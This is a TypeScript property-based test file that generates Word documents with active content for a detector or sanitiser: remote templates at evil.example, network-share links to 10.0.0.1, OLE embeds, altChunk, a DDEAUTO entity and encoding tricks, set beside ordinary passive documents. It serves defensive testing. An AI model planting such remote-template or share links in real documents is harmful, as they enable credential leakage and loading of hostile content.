import fc from 'fast-check'
import { activeField, assembledField, code, fieldMark, interruptedField, nestedSource } from './active-fields.ts'
import { MICROSOFT, OFFICE, type Relationship, relationships, STRICT, WORD_NAMESPACE, wordFile } from './word-files.ts'
import { LOCAL_TEMPLATES, misusedTemplate, REMOTE_TEMPLATES, withTemplate } from './word-templates.ts'
import type { Part } from './zip.ts'

const external = (name: string): fc.Arbitrary<Relationship> =>
  fc.record({
    type: fc.constantFrom(OFFICE, STRICT).map((base) => `${base}/${name}`),
    target: fc.constantFrom(
      'https://evil.example/a.dotm',
      'file:////10.0.0.1/share/a',
      '\\\\10.0.0.1\\share\\a',
      'mhtml:https://x!x',
      ...REMOTE_TEMPLATES,
    ),
    mode: fc.constantFrom('External', 'external', ' External', 'Ext&#101;rnal'),
  })
const internal = (type: string): fc.Arbitrary<Relationship> => fc.constant({ type, target: 'embeddings/part1.dat' })

const LINKED = ['attachedTemplate', 'frame', 'oleObject', 'subDocument', 'image', 'externalLink', 'video', 'unheardOf']
const EMBEDDED = [
  ...['oleObject', 'control', 'aFChunk', 'attachedTemplate', 'subDocument'].flatMap((name) => [
    `${OFFICE}/${name}`,
    `${STRICT}/${name}`,
  ]),
  ...['vbaProject', 'wordVbaData', 'activeXControlBinary', 'keyMapCustomizations'].map((name) => `${MICROSOFT}/${name}`),
]
const RELS_NAMES = [
  'word/_rels/document.xml.rels',
  'word/_rels/settings.xml.rels',
  'word/_rels/footnotes.xml.RELS',
  '_rels/.rels',
]

/** Links are no active content, so they hide the others among them. */
const HARMLESS: Relationship = { type: `${OFFICE}/hyperlink`, target: 'https://ubora.example', mode: 'External' }

const activeRelationship: fc.Arbitrary<Buffer> = fc
  .record({
    one: fc.oneof(...LINKED.map(external), ...EMBEDDED.map(internal)),
    before: fc.nat(5),
    name: fc.constantFrom(...RELS_NAMES),
    prefix: fc.constantFrom('', 'r', 'x1'),
  })
  .map(({ one, before, name, prefix }) => {
    const list = [...Array.from({ length: before }, () => HARMLESS), one, HARMLESS]
    return wordFile('<w:p/>', relationships(list, name, prefix))
  })

/** A document whose picture is on a network share. */
export const SHARED_PICTURE_FILE = wordFile(
  '<w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="\\\\10.0.0.1\\share\\a.png"/></v:shape></w:pict>',
)

const OLE = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(504)])
const activePart: fc.Arbitrary<Buffer> = fc
  .constantFrom<Part>(
    { name: 'word/embeddings/oleObject1.bin', content: 'x' },
    { name: 'word/Embeddings/report.doc', content: 'x' },
    { name: 'word/embeddings/book.xlsm', content: 'x' },
    { name: 'word/media/image1.png', content: OLE },
    { name: 'customXml/item1.xml', content: OLE },
    { name: 'customUI/customUI14.xml', content: '<customUI/>' },
    { name: 'word/webextensions/taskpanes.xml', content: '<wetp:taskpanes/>' },
  )
  .map((part) => wordFile('<w:p/>', part))

const LOADING = [
  '<%:attachedTemplate r:id="rId1"/>',
  '<%:altChunk r:id="rId1"/>',
  '<%:altChunk r:id="rId1"><%:altChunkPr/></%:altChunk>',
  '<%:subDoc r:id="rId1"/>',
  '<%:mailMerge><%:connectString %:val="Data Source=\\\\10.0.0.1\\s"/></%:mailMerge>',
  '<a:blip xmlns:a="urn:a" r:link="rId1"/>',
]

/** An element that loads something, with a relationship of a harmless type. */
const loadingElement: fc.Arbitrary<Buffer> = fc
  .record({
    element: fc.constantFrom(...LOADING),
    prefix: fc.constantFrom('w', 'x', 'w15'),
    part: fc.constantFrom('document', 'settings', 'header1'),
    type: fc.constantFrom('hyperlink', 'HYPERLINK', 'image'),
  })
  .map(({ element, prefix, part, type }) => {
    const namespaces = `xmlns:${prefix}="${WORD_NAMESPACE}" xmlns:r="${OFFICE}"`
    const content = `<${prefix}:root ${namespaces}>${element.replaceAll('%', prefix)}</${prefix}:root>`
    const mode = type === 'image' ? {} : { mode: 'External' }
    const link = { type: `${OFFICE}/${type}`, target: 'https://evil.example/a.dotm', ...mode }
    const linked = relationships([link], `word/_rels/${part}.xml.rels`)
    if (part === 'document') return wordFile(content, linked)
    return wordFile('<w:p/>', { name: `word/${part}.xml`, content }, linked)
  })

const embeddedObject: fc.Arbitrary<Buffer> = fc.constantFrom('o', 'ole', 'x').map((prefix) => {
  const object = `<${prefix}:OLEObject xmlns:${prefix}="urn:schemas-microsoft-com:office:office" Type="Embed" ProgID="Excel.Sheet.12"/>`
  return wordFile(`<w:object>${object}</w:object>`, { name: 'word/embeddings/book.xlsx', content: 'PK' })
})

/** XML that another program decodes to something else. */
const hiddenText: fc.Arbitrary<Buffer> = fc
  .constantFrom(
    Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(`<w:hdr xmlns:w="${WORD_NAMESPACE}"/>`, 'utf16le')]),
    Buffer.from(`<w:hdr xmlns:w="${WORD_NAMESPACE}"/>`, 'utf16le'),
    Buffer.from(`<?xml version="1.0" encoding="utf-7"?><w:hdr xmlns:w="${WORD_NAMESPACE}"/>`),
    Buffer.from(`<!DOCTYPE w:hdr [<!ENTITY a "DDEAUTO">]><w:hdr xmlns:w="${WORD_NAMESPACE}">&a;</w:hdr>`),
  )
  .map((content) => wordFile('<w:p/>', { name: 'word/header1.xml', content }))

/** Word documents with active content. */
export const activeWordFiles: fc.Arbitrary<Buffer> = fc.oneof(
  { weight: 4, arbitrary: activeRelationship },
  { weight: 3, arbitrary: activeField },
  activePart,
  { weight: 2, arbitrary: assembledField },
  interruptedField,
  { weight: 2, arbitrary: loadingElement },
  nestedSource,
  embeddedObject,
  misusedTemplate,
  hiddenText,
)

/** Documents of ordinary offices: links, fields, charts and pictures. */
export const PASSIVE_WORD_FILES: readonly Buffer[] = [
  wordFile('<w:p/>', relationships([HARMLESS, { type: `${OFFICE}/image`, target: 'media/image1.png' }])),
  wordFile('<w:fldSimple w:instr=" PAGE \\* MERGEFORMAT "/>'),
  wordFile('<w:r><w:instrText> TOC \\o "1-3" \\h </w:instrText></w:r>'.replaceAll('"', '&quot;')),
  wordFile(
    '<w:p/>',
    { name: 'word/embeddings/Microsoft_Excel_Sheet.xlsx', content: 'PK' },
    relationships(
      [{ type: `${OFFICE}/package`, target: 'embeddings/Microsoft_Excel_Sheet.xlsx' }],
      'word/charts/_rels/chart1.xml.rels',
    ),
  ),
  wordFile('<w:fldSimple w:instr="HYPERLINK &quot;https://ubora.example/link database&quot;"/>'),
  wordFile('<w:fldSimple w:instr="INCLUDEPICTURE &quot;media/plan.png&quot; \\* MERGEFORMAT"/>'),
  wordFile(
    [
      ...[
        fieldMark('begin'),
        code('INCLUDEPICTURE "C:\\\\Users\\\\a\\\\plan.png" \\d'),
        fieldMark('separate'),
        fieldMark('end'),
      ],
      ...[fieldMark('begin'), code('DATE \\@ "HH:mm"'), fieldMark('end')],
    ].join(''),
  ),
  wordFile(
    [
      ...[fieldMark('begin'), code(' IF '), fieldMark('begin'), code('MERGEFIELD rd'), fieldMark('separate')],
      ...[fieldMark('end'), code(' = "" "" "RD "'), fieldMark('end')],
      ...[fieldMark('begin'), code(' HYPERLINK "https://ubora.example/rd "'), fieldMark('separate'), fieldMark('end')],
    ].join(''),
  ),
  wordFile(
    [
      ...[fieldMark('begin'), code('TOC \\o "1-3" \\h'), fieldMark('separate'), fieldMark('begin')],
      ...[code('PAGEREF _Toc1'), fieldMark('separate'), fieldMark('end'), fieldMark('end')],
      ...[fieldMark('begin'), code('= '), fieldMark('begin'), code('PAGE'), fieldMark('end'), code(' - 1'), fieldMark('end')],
    ].join(''),
  ),
  ...LOCAL_TEMPLATES.map((target) => withTemplate(target)),
  wordFile('<w:p/>', ...['word/embeddings/', 'word/activeX/', 'customUI/'].map((name) => ({ name, content: '' }))),
  wordFile('<w:p><w:r><w:t>DDE and INCLUDETEXT are fields, w:altChunk is an element.</w:t></w:r></w:p>'),
]
